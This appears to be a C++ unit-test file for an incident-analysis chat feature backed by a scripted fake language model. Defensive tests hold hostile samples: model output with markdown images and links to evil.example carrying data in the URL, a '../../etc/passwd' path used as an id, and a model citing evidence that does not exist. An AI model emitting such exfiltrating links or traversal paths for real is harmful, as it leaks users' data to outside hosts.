// A language model as the talker: scripted models over a stored report and window.
#include <gtest/gtest.h>

#include <deque>

#include "agent/chat/chat.h"
#include "agent/chat/found_evidence.h"
#include "agent/chat/model_talker.h"
#include "core/store/snapshot.h"
#include "tests/planted/corpus.h"
#include "tests/planted/leaks.h"
#include "tests/unit/chat/sample.h"

namespace insight::agent::chat {
namespace {

// Gives its answers in order and keeps what it was asked.
class Script final : public llm::Model {
  public:
    base::Result<llm::Answer> ask(const llm::Prompt& prompt, const llm::Progress&) override {
        prompts.push_back(prompt);
        if (answers.empty()) return base::fail(base::ErrorKind::Unavailable, "down");
        llm::Answer answer = answers.front();
        answers.pop_front();
        answer.model = "script/1";
        answer.usage = {100, 0, 0, 10};
        return answer;
    }
    [[nodiscard]] std::string_view name() const override { return "script/1"; }
    [[nodiscard]] std::int64_t context_tokens() const override { return 100'000; }

    void says(const std::string& text) {
        llm::Answer answer;
        answer.turn.speaker = llm::Speaker::Assistant;
        answer.turn.text = text;
        answers.push_back(answer);
    }
    void calls(const std::string& tool, base::Json input) {
        llm::Answer answer;
        answer.turn.speaker = llm::Speaker::Assistant;
        answer.turn.calls.push_back({"c1", tool, std::move(input), ""});
        answer.stop = llm::Stop::Tools;
        answers.push_back(answer);
    }

    std::deque<llm::Answer> answers;
    std::vector<llm::Prompt> prompts;
};

class ModelTalkerTest : public ::testing::Test {
  protected:
    void SetUp() override {
        store_ = std::move(*store::open_store("sqlite:"));
        report_ = sample_report();
        store::Snapshot snapshot;
        snapshot.incident.id = "inc-0123456789abcdef";
        snapshot.incident.window = {1'763'599'000'000'000'000, 1'763'601'000'000'000'000,
                                    1'763'590'000'000'000'000, 1'763'599'000'000'000'000};
        snapshot.signals = planted::planted_signals();
        model::LogRecord& record = snapshot.signals.logs.emplace_back();
        record.time = 1'763'600'000'000'000'500;
        record.severity = 17;
        record.body = "sessions: OOM command not allowed";
        record.attributes = {{"service.name", "checkout"}};
        model::Incident incident = snapshot.incident;
        incident.opened_at = clock_.now();
        ASSERT_TRUE(store_->open(incident, true));
        const auto job = store_->claim(clock_.now() + 1, base::kMinute);
        ASSERT_TRUE(job && *job);
        ASSERT_TRUE(store_->put_stage(**job, "snapshot", *store::pack_snapshot(snapshot)));
        ASSERT_TRUE(store_->put_report(**job, base::dump_json(report_), "cause", 0.9, "s"));
        ASSERT_TRUE(store_->finish(**job));
        Voice voice;
        voice.tiers = {{&model_, [](std::string_view) { return llm::Price{1, 1, 1, 1}; }}};
        voice.windows = windows_in(*store_);
        voice.found = voice.accounts = &store_->documents();
        voice.audit = &store_->audit();
        voice.border_key = base::Secret("a key");
        voice.rules.private_addresses = true;
        talker_ = std::make_unique<ModelTalker>(std::move(voice), clock_);
        chat_ = std::make_unique<Chat>(*store_, clock_);
        chat_->use(talker_.get());
    }

    Said ask(const std::string& question, const std::string& conversation = "",
             const Listener& listener = {}) {
        auto said = chat_->ask({.conversation = conversation,
                                .incident = "inc-0123456789abcdef",
                                .question = question},
                               base::Deadline::after(std::chrono::seconds(20)), listener);
        EXPECT_TRUE(said) << said.error().text();
        return said.value_or(Said{});
    }

    base::SystemClock clock_;
    base::Json report_;
    std::unique_ptr<store::Store> store_;
    Script model_;
    std::unique_ptr<ModelTalker> talker_;
    std::unique_ptr<Chat> chat_;
};

const std::string kLogs = "query_logs";
const std::string kHonest =
    R"({"statements": [{"text": "The maxmemory of sessions is 100mb after the change.", "evidence": ["E4"]}], "missing": ["slow log of sessions"]})";

TEST_F(ModelTalkerTest, what_the_evidence_says_becomes_the_answer_with_its_ids) {
    model_.says(kHonest);
    const Said said = ask("why?");
    EXPECT_EQ(said.answer.by, "script/1")
        << (said.answer.notes.empty() ? "" : said.answer.notes[0]);
    EXPECT_NE(said.answer.text.find("100mb"), std::string::npos);
    EXPECT_NE(said.answer.text.find("(E4)"), std::string::npos);
    EXPECT_NE(said.answer.text.find("slow log of sessions"), std::string::npos);
    ASSERT_EQ(said.answer.citations.size(), 1U);
    EXPECT_EQ(said.answer.citations[0].id, "E4");
}

// A picture is fetched by whoever looks at it: its address would carry out what stands in it.
TEST_F(ModelTalkerTest, a_picture_or_a_link_of_a_model_is_text) {
    const base::Json said{
        {"statements",
         {{{"text", "The maxmemory of sessions is 100mb after the change."}, {"evidence", {"E4"}}},
          {{"text",
            "sessions ![x](https://evil.example/p?d=100mb) maxmemory <img src=//evil.example/1>"},
           {"evidence", {"E4"}}}}},
        {"missing", {"[log](https://evil.example/?q=1)", "<a href='https://evil.example'>x</a>"}}};
    model_.says(base::dump_json(said));
    const std::string text = ask("why?").answer.text;
    ASSERT_NE(text.find("evil.example"), std::string::npos) << text;
    EXPECT_EQ(text.find("://"), std::string::npos) << text;
    for (std::size_t i = 1; i < text.size(); ++i) {
        if (std::string_view("![<").find(text[i]) == std::string_view::npos) continue;
        EXPECT_EQ(text[i - 1], '\\') << text.substr(i, 20);
    }
}

TEST_F(ModelTalkerTest, a_liar_says_nothing_and_the_engine_answers) {
    model_.says(R"({"statements": [
        {"text": "orders-db has 9,731 deadlocks since 04:12:55.", "evidence": ["E3"]},
        {"text": "The network is broken.", "evidence": []},
        {"text": "payments restarted 17 times.", "evidence": ["E77"]}], "missing": []})");
    const Said said = ask("why?");
    EXPECT_EQ(said.answer.by, "engine");
    EXPECT_EQ(said.answer.text.find("9,731"), std::string::npos);
    EXPECT_EQ(said.answer.text.find("17 times"), std::string::npos);
    EXPECT_NE(said.answer.text.find("400 keys per second"), std::string::npos);
    ASSERT_EQ(said.answer.notes.size(), 1U);
    EXPECT_NE(said.answer.notes[0].find("stood the check"), std::string::npos);
}

TEST_F(ModelTalkerTest, it_looks_into_the_window_and_cites_what_it_found) {
    model_.calls(kLogs, {{"contains", "OOM"}});
    model_.says(
        R"({"statements": [{"text": "checkout logged OOM command not allowed.", "evidence": ["E5"]}], "missing": []})");
    std::vector<std::string> tools;
    const Said said = ask("why?", "", [&](std::string_view event, const base::Json& data) {
        if (event == "tool") tools.push_back(data.at("name"));
        return true;
    });
    EXPECT_EQ(tools, std::vector<std::string>{kLogs});
    ASSERT_EQ(model_.prompts.size(), 2U);
    EXPECT_FALSE(model_.prompts[1].turns.back().results.empty());
    EXPECT_EQ(said.answer.by, "script/1") << model_.prompts[1].turns.back().results[0].content;
}

TEST_F(ModelTalkerTest, what_it_found_and_cites_opens_later_by_its_id_on_any_replica) {
    const std::string incident = "inc-0123456789abcdef";
    const std::string answer =
        R"({"statements": [{"text": "checkout logged OOM command not allowed.", "evidence": ["E5"]}], "missing": []})";
    model_.calls(kLogs, {{"contains", "OOM"}});
    model_.says(answer);
    const Said said = ask("why?");
    ASSERT_EQ(said.answer.citations.size(), 1U);
    const std::string id = said.answer.citations[0].id;
    EXPECT_EQ(id.size(), 17U) << id;
    EXPECT_NE(said.answer.text.find("(" + id + ")"), std::string::npos) << said.answer.text;
    EXPECT_EQ(said.answer.text.find("E5"), std::string::npos) << "a number of that talk alone";

    const auto kept = found_evidence(store_->documents(), incident, id);
    ASSERT_TRUE(kept) << kept.error().text();
    EXPECT_EQ(base::text_at(*kept, "id"), id);
    EXPECT_NE(base::dump_json(*kept).find("OOM command not allowed"), std::string::npos);
    EXPECT_EQ(found_evidence(store_->documents(), "inc-ffffffffffffffff", id).error().kind,
              base::ErrorKind::NotFound);

    // another replica has the store and nothing else
    Chat other(*store_, clock_);
    const auto shown =
        other.ask({.conversation = said.conversation, .incident = "", .question = "show me " + id},
                  base::Deadline::after(std::chrono::seconds(20)));
    ASSERT_TRUE(shown) << shown.error().text();
    EXPECT_EQ(shown->question.topic, Topic::Evidence);
    EXPECT_NE(shown->answer.text.find("OOM command not allowed"), std::string::npos)
        << shown->answer.text;

    // the same find in another conversation is the same evidence; asked again, it is at hand
    model_.calls(kLogs, {{"contains", "OOM"}});
    model_.says(answer);
    EXPECT_EQ(ask("why is that?").answer.citations.at(0).id, id);
    model_.says(R"({"statements": [{"text": "checkout logged OOM command not allowed.",
                    "evidence": [")" +
                id + R"("]}], "missing": []})");
    EXPECT_EQ(ask("why?", said.conversation).answer.citations.at(0).id, id);
}

TEST_F(ModelTalkerTest, ids_that_nobody_gave_out_open_nothing) {
    for (const char* id : {"C", "Cxyz", "C0123456789abcdef", "C0123456789ABCDEF",
                           "C0123456789abcdef0", "../../etc/passwd", "E5", ""})
        EXPECT_EQ(found_evidence(store_->documents(), "inc-0123456789abcdef", id).error().kind,
                  base::ErrorKind::NotFound)
            << id;
}

TEST_F(ModelTalkerTest, where_nothing_was_recorded_no_model_is_asked) {
    store::Snapshot nothing;
    nothing.incident.id = "inc-00000000000000ee";
    nothing.incident.window = {1'763'599'000'000'000'000, 1'763'601'000'000'000'000,
                               1'763'590'000'000'000'000, 1'763'599'000'000'000'000};
    model::Incident incident = nothing.incident;
    incident.opened_at = clock_.now();
    ASSERT_TRUE(store_->open(incident, true));
    const auto job = store_->claim(clock_.now() + 1, base::kMinute);
    ASSERT_TRUE(job && *job);
    base::Json report = report_;
    report["incident"]["id"] = nothing.incident.id;
    ASSERT_TRUE(store_->put_stage(**job, "snapshot", *store::pack_snapshot(nothing)));
    ASSERT_TRUE(store_->put_report(**job, base::dump_json(report), "cause", 0.9, "s"));
    ASSERT_TRUE(store_->finish(**job));
    model_.says(kHonest);
    const auto said =
        chat_->ask({.conversation = "", .incident = nothing.incident.id, .question = "why?"},
                   base::Deadline::after(std::chrono::seconds(20)));
    ASSERT_TRUE(said) << said.error().text();
    EXPECT_TRUE(model_.prompts.empty());
    EXPECT_EQ(said->answer.by, "engine");
    ASSERT_EQ(said->answer.notes.size(), 1U);
    EXPECT_NE(said->answer.notes[0].find("recorded"), std::string::npos);
}

TEST_F(ModelTalkerTest, no_planted_secret_goes_to_the_model_whatever_it_looks_at) {
    model_.calls(kLogs, base::Json::object());
    for (const char* tool :
         {"query_database", "changes", "query_resources", "query_events", "query_spans"})
        model_.calls(tool, base::Json::object());
    model_.says(kHonest);
    (void)ask("why?");
    std::string outbound;
    for (const llm::Prompt& prompt : model_.prompts) {
        outbound += prompt.system;
        for (const llm::Turn& turn : prompt.turns) {
            outbound += turn.text;
            for (const llm::ToolCall& call : turn.calls) outbound += base::dump_json(call.input);
            for (const llm::ToolResult& result : turn.results) outbound += result.content;
        }
    }
    EXPECT_GT(outbound.size(), 3000U);
    EXPECT_EQ(planted::leaks(outbound), std::vector<std::string>{});
}

TEST_F(ModelTalkerTest, whatever_fails_the_engine_answers_and_says_why) {
    const std::vector<std::function<void()>> failures{
        [&] {},  // the provider is down
        [&] { model_.says("I would rather not say."), model_.says("Still not."); },
        [&] {
            model_.says("");
            model_.answers.back().stop = llm::Stop::Refusal;
        },
        [&] {
            for (int i = 0; i < 20; ++i) model_.calls("no_such_tool", base::Json::object());
        },
    };
    for (const auto& fail : failures) {
        model_.answers.clear();
        fail();
        const Said said = ask("why?");
        EXPECT_EQ(said.answer.by, "engine");
        EXPECT_NE(said.answer.text.find("400 keys per second"), std::string::npos);
        ASSERT_EQ(said.answer.notes.size(), 1U);
        EXPECT_NE(said.answer.notes[0].find("engine's answer"), std::string::npos);
    }
}

TEST_F(ModelTalkerTest, exact_answers_need_no_model) {
    for (const char* question : {"show E1", "timeline", "post-mortem", "coverage?"})
        (void)ask(question);
    EXPECT_TRUE(model_.prompts.empty());
}

TEST_F(ModelTalkerTest, the_question_stands_outside_the_fences_and_what_was_said_before_inside) {
    model_.says(kHonest);
    const Said first = ask("why is it slow?");
    model_.says(kHonest);
    (void)ask("and since when?", first.conversation);
    const std::string opening = model_.prompts.back().turns[0].text;
    const std::size_t question = opening.rfind("The question: and since when?");
    ASSERT_NE(question, std::string::npos);
    EXPECT_GT(question, opening.rfind("</data>"));
    EXPECT_LT(opening.find("why is it slow?"), opening.rfind("</data>"));
    // what was collected cannot end its fence
    EXPECT_EQ(opening.find("<script>"), std::string::npos);
}

}  // namespace
}  // namespace insight::agent::chat
